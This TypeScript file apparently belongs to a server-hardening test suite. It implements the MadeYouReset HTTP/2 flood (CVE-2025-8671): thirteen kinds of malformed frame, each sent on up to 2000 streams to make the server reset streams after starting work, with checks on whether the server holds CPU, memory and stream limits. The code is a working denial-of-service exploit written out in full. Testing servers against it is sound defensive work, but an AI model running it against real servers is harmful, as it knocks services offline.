import {
  flag,
  frame,
  frameReader,
  frameType,
  headerBlock,
  headers,
  preface,
  requestFields,
  settings,
  uint32,
  windowUpdate,
} from "../../platform/testing/http2-frames.js";
import type { Attack, Outcome, Target } from "./attack.js";
import { openConnection } from "./raw-connection.js";

// The promise: a client that makes the server reset its streams gets no further than this.
const streamsMax = 200;
const streamsTried = 2000;
// A stream a turn, so that the server is not already behind when it decides.
const pauseMs = 1;
// A session that nghttp2 gave up is found by its silence: 3 s, and 10 s for the PING.
const patienceMs = 18_000;

type Provocation = (streamId: number, target: Target) => Buffer;

async function provoke(target: Target, provocation: Provocation): Promise<Outcome> {
  const connection = await openConnection(target);
  const read = frameReader();
  const received = new Set<number>();
  connection.onData((chunk) => {
    for (const { type } of read(chunk)) received.add(type);
  });
  await connection.write(Buffer.concat([preface, settings()]));
  let sent = 0;
  // After GOAWAY the server serves no more streams: what it then still has to do is close the socket.
  while (sent < streamsTried && !received.has(frameType.goaway)) {
    if (!(await connection.write(provocation(2 * sent + 1, target)))) break;
    sent++;
    await new Promise((resolve) => setTimeout(resolve, pauseMs));
  }
  const ended = await connection.waitForEnd(patienceMs);
  connection.close();
  return { sent, ended, complaints: sent > streamsMax ? [`${sent} streams before the end`] : [] };
}

function request(
  streamId: number,
  target: Target,
  flags: number,
  more: readonly (readonly [string, string])[] = [],
): Buffer {
  return headers(
    streamId,
    headerBlock(requestFields(target.path, [...Object.entries(target.headers), ...more])),
    flags,
  );
}

const open = flag.endHeaders;
const whole = flag.endHeaders | flag.endStream;

const provocations: Record<string, Provocation> = {
  "WINDOW_UPDATE of 0": (id, target) => Buffer.concat([request(id, target, open), windowUpdate(id, 0)]),
  "WINDOW_UPDATE past 2^31-1": (id, target) =>
    Buffer.concat([request(id, target, open), windowUpdate(id, 0x7fffffff)]),
  "DATA after END_STREAM": (id, target) =>
    Buffer.concat([request(id, target, whole), frame(frameType.data, 0, id, Buffer.alloc(1))]),
  "HEADERS after END_STREAM": (id, target) =>
    Buffer.concat([request(id, target, whole), request(id, target, whole)]),
  "PRIORITY of 4 bytes": (id, target) =>
    Buffer.concat([request(id, target, open), frame(frameType.priority, 0, id, Buffer.alloc(4))]),
  "PRIORITY on itself": (id, target) =>
    Buffer.concat([
      request(id, target, open),
      frame(frameType.priority, 0, id, Buffer.concat([uint32(id), Buffer.of(1)])),
    ]),
  "HEADERS that depend on themselves": (id, target) => {
    const block = headerBlock(requestFields(target.path));
    return headers(id, Buffer.concat([uint32(id), Buffer.of(1), block]), open | flag.priority);
  },
  "less than its content-length": (id, target) =>
    Buffer.concat([
      request(id, target, open, [["content-length", "10"]]),
      frame(frameType.data, flag.endStream, id, Buffer.alloc(1)),
    ]),
  "more than its content-length": (id, target) =>
    Buffer.concat([
      request(id, target, open, [["content-length", "1"]]),
      frame(frameType.data, 0, id, Buffer.alloc(10)),
    ]),
  "trailers without END_STREAM": (id, target) =>
    Buffer.concat([request(id, target, open), headers(id, headerBlock([["x", "y"]]), flag.endHeaders)]),
  "trailers with a pseudo field": (id, target) =>
    Buffer.concat([request(id, target, open), headers(id, headerBlock([[":path", "/"]]), whole)]),
  "a field name in upper case": (id, target) => request(id, target, whole, [["Upper", "case"]]),
  "no method": (id) =>
    headers(
      id,
      headerBlock([
        [":path", "/"],
        [":scheme", "http"],
      ]),
      whole,
    ),
};

/** MadeYouReset (CVE-2025-8671): the client breaks a rule of the stream, so that the server resets it after starting work. */
export const madeYouReset: readonly Attack[] = Object.entries(provocations).map(([name, provocation]) => ({
  promise: "S4",
  name,
  bar: { handlersMax: streamsMax, cpuMsMax: 300, rssGrowthMax: 64e6 },
  run: (target) => provoke(target, provocation),
}));
